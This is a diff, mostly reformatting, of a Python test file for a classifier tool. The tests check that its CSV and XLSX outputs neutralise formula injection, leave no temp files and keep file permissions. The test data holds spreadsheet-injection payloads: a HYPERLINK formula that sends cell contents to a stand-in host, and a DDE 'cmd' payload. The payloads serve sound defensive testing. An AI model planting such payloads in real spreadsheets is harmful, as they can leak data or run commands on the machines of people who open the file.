@@ -1,4 +1,5 @@
 """Findings 2, 7, 8, 9 (writing), 10: outputs carry no live formula, leave nothing behind, keep permissions."""
+
 import csv
 import errno
 import os
@@ -24,8 +25,18 @@ from tests.conftest import ROOT, write_csv
 
 runner = CliRunner()
 TRIGGERS = "=+-@\t\r"
-FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "＝1+1", "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\n=1+1",
+    "＝1+1",
+    "=1+1",
+]
 
 
 def run(*args):
@@ -33,6 +44,7 @@ def run(*args):
 
 
 # ---------------------------------------------------------------- neutralising
+
 
 def _live(cell: str) -> bool:
     """What a spreadsheet would evaluate: a trigger first (after spaces/newlines), and not a plain number."""
@@ -61,8 +73,10 @@ cells = st.text(st.characters(blacklist_categories=("Cs",)), max_size=25) | st.s
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(header=st.lists(cells, min_size=1, max_size=4, unique=True), rows=st.lists(st.lists(cells, min_size=4, max_size=4),
-                                                                                    max_size=6))
+@given(
+    header=st.lists(cells, min_size=1, max_size=4, unique=True),
+    rows=st.lists(st.lists(cells, min_size=4, max_size=4), max_size=6),
+)
 def test_no_csv_cell_or_header_is_live(tmp_path, header, rows):
     header = [h or f"c{i}" for i, h in enumerate(header)]
     frame = pd.DataFrame([r[: len(header)] for r in rows], columns=header)
@@ -78,16 +92,17 @@ def test_no_csv_cell_or_header_is_live(tmp_path, header, rows):
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(header=st.lists(st.sampled_from(FORMULAS) | st.text(min_size=1, max_size=10), min_size=1, max_size=3,
-                       unique=True),
-       values=st.lists(st.sampled_from(FORMULAS) | st.text(max_size=15), min_size=1, max_size=6))
+@given(
+    header=st.lists(st.sampled_from(FORMULAS) | st.text(min_size=1, max_size=10), min_size=1, max_size=3, unique=True),
+    values=st.lists(st.sampled_from(FORMULAS) | st.text(max_size=15), min_size=1, max_size=6),
+)
 def test_no_xlsx_cell_or_header_is_a_formula(tmp_path, header, values):
     from openpyxl import load_workbook
 
     frame = pd.DataFrame({h: values for h in header})
     out = tmp_path / "o.xlsx"
     write_table(frame, out)
-    wb = load_workbook(out)   # not read-only: data_type tells formulas from text
+    wb = load_workbook(out)  # not read-only: data_type tells formulas from text
     for row in wb.active.iter_rows():
         for cell in row:
             assert cell.data_type != "f", cell.value
@@ -96,10 +111,13 @@ def test_no_xlsx_cell_or_header_is_a_formula(tmp_path, header, values):
 def test_label_and_redact_outputs_have_no_live_formula(tmp_path, small_model_dir):
     from openpyxl import load_workbook
 
-    data = write_csv(tmp_path / "in.csv", [
-        {"id": "=1+1", "text": '=HYPERLINK("http://x.example","my worker never rang")', "=cmd|' /C calc'!A0": "@x"},
-        {"id": "-2", "text": "+ my pa is late with my grant", "=cmd|' /C calc'!A0": "-1+1"},
-    ])
+    data = write_csv(
+        tmp_path / "in.csv",
+        [
+            {"id": "=1+1", "text": '=HYPERLINK("http://x.example","my worker never rang")', "=cmd|' /C calc'!A0": "@x"},
+            {"id": "-2", "text": "+ my pa is late with my grant", "=cmd|' /C calc'!A0": "-1+1"},
+        ],
+    )
     for out in (tmp_path / "l.csv", tmp_path / "l.xlsx"):
         r = run("label", data, "-o", out, "--model", small_model_dir)
         assert r.exit_code == 0, r.output
@@ -119,6 +137,7 @@ def test_label_and_redact_outputs_have_no_live_formula(tmp_path, small_model_dir
 
 
 # ---------------------------------------------------------------- leftovers
+
 
 def _leftovers(folder: Path) -> list[str]:
     return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))
@@ -142,7 +161,7 @@ def test_xlsx_sheet_temp_files_live_beside_the_output_and_are_removed(tmp_path, 
     out_dir.mkdir()
     w = TableWriter(out_dir / "o.xlsx", ["text"])
     w.write(pd.DataFrame({"text": ["a", "b"]}))
-    assert any(n.endswith(".sheet.xml") for n in _leftovers(out_dir))   # streamed beside the output
+    assert any(n.endswith(".sheet.xml") for n in _leftovers(out_dir))  # streamed beside the output
     w.close()
     assert list(tmpdir.iterdir()) == [] and _leftovers(out_dir) == []
 
@@ -175,7 +194,7 @@ def test_signal_during_a_run_leaves_no_temp_copy(tmp_path, sig, suffix):
     cmd = [sys.executable, "-m", "classifier", "redact", str(data), "-o", str(out_dir / f"o{suffix}")]
     proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=ROOT)
     deadline = time.time() + 60
-    while time.time() < deadline and not _leftovers(out_dir):   # wait until it is writing
+    while time.time() < deadline and not _leftovers(out_dir):  # wait until it is writing
         time.sleep(0.05)
     assert _leftovers(out_dir), "the run never started writing"
     time.sleep(0.3)
@@ -187,6 +206,7 @@ def test_signal_during_a_run_leaves_no_temp_copy(tmp_path, sig, suffix):
 
 
 # ---------------------------------------------------------------- permissions, paths, OSError
+
 
 def test_cli_umask_and_kept_permissions(tmp_path):
     data = write_csv(tmp_path / "in.csv", [{"id": "1", "text": "hello"}])
@@ -222,8 +242,9 @@ def test_two_writers_may_not_share_a_target(tmp_path):
             TableWriter(tmp_path / "o.csv", ["a"])
 
 
-@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "disk is full"), (errno.EACCES, "not writable"),
-                                         (errno.EROFS, "not writable")])
+@pytest.mark.parametrize(
+    "code, words", [(errno.ENOSPC, "disk is full"), (errno.EACCES, "not writable"), (errno.EROFS, "not writable")]
+)
 def test_oserror_on_write_is_one_line_naming_the_fix(tmp_path, monkeypatch, code, words):
     data = write_csv(tmp_path / "in.csv", [{"id": "1", "text": "hello"}])
 
@@ -268,7 +289,7 @@ def test_annual_report_workbook_keeps_formula_like_text_as_text(tmp_path):
 
     wb = Workbook()
     wb.active.append(["Service", '=HYPERLINK("http://x.example","click")'])
-    assert wb.active["B1"].data_type == "f"        # what openpyxl would write without the guard
+    assert wb.active["B1"].data_type == "f"  # what openpyxl would write without the guard
     _text_never_formulas(wb)
     wb.save(tmp_path / "r.xlsx")
     cell = load_workbook(tmp_path / "r.xlsx")["Sheet"]["B1"]
